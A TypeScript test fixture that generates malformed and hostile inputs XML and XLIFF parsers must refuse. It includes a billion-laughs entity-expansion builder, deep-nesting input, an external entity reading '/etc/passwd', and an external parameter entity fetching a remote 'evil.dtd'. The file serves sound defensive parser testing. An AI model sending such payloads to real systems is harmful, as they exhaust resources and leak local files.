// Broken and hostile inputs every XML-based format must refuse with a clear `bad_file` message: used
// by the XML and XLIFF tests, built around a small valid document of each format.
import { deflateSync } from 'node:zlib';

export interface BrokenFile {
  name: string;
  input: Buffer;
  /** What the message must say. */
  message: RegExp;
}

const png = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  deflateSync(Buffer.alloc(64)),
]);

function billionLaughs(root: string): string {
  const levels = Array.from({ length: 9 }, (_, index) => {
    const previous = index === 0 ? 'lol' : `&lol${index - 1};`.repeat(10);
    return `  <!ENTITY lol${index} "${previous}">`;
  });
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n  <!ENTITY lol "lol">\n${levels.join('\n')}\n]>\n<${root}>&lol8;</${root}>\n`;
}

/** `valid` is a small well-formed document whose root element is `root`. */
export function brokenFiles(valid: string, root: string): BrokenFile[] {
  const deep = `${'<a>'.repeat(100_000)}x${'</a>'.repeat(100_000)}`;
  return [
    {
      name: 'truncated',
      input: Buffer.from(valid.slice(0, Math.floor(valid.length * 0.6))),
      message: /line \d+, column \d+/,
    },
    {
      name: 'mismatched close tag',
      input: Buffer.from(valid.replace(`</${root}>`, `</${root}x>`)),
      message: /malformed at line \d+, column \d+/,
    },
    {
      name: 'unescaped ampersand',
      input: Buffer.from(valid.replace(/>([^<\s]+)</, '>$1 & more<')),
      message: /line \d+/,
    },
    {
      name: 'undefined entity',
      input: Buffer.from(valid.replace(/>([^<\s]+)</, '>&nbsp;$1<')),
      message: /line \d+/,
    },
    {
      name: 'binary bytes',
      input: Buffer.concat([Buffer.from(valid.slice(0, 60)), Buffer.from([0, 1, 2, 3, 0xff])]),
      message: /binary/,
    },
    {
      name: 'UTF-16 without byte-order mark',
      input: Buffer.from(valid, 'utf16le'),
      message: /UTF-16 without a byte-order mark/,
    },
    { name: 'PNG image', input: png, message: /PNG image/ },
    { name: 'JSON text', input: Buffer.from('{ "title": "Hello" }\n'), message: /does not start with a tag/ },
    { name: 'empty file', input: Buffer.alloc(0), message: /does not start with a tag/ },
    {
      name: 'hostile nesting',
      input: Buffer.from(`<${root}>${deep}</${root}>`),
      message: /nested more than/,
    },
    { name: 'billion laughs', input: Buffer.from(billionLaughs(root)), message: /declares entities/ },
    {
      name: 'external entity',
      input: Buffer.from(
        `<?xml version="1.0"?>\n<!DOCTYPE ${root} [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>\n<${root}>&secret;</${root}>\n`,
      ),
      message: /declares entities/,
    },
    {
      name: 'external parameter entity',
      input: Buffer.from(
        `<!DOCTYPE ${root} [ <!ENTITY % remote PUBLIC "-//X//Y" "http://example.com/evil.dtd"> %remote; ]>\n<${root}/>\n`,
      ),
      message: /declares entities/,
    },
  ];
}
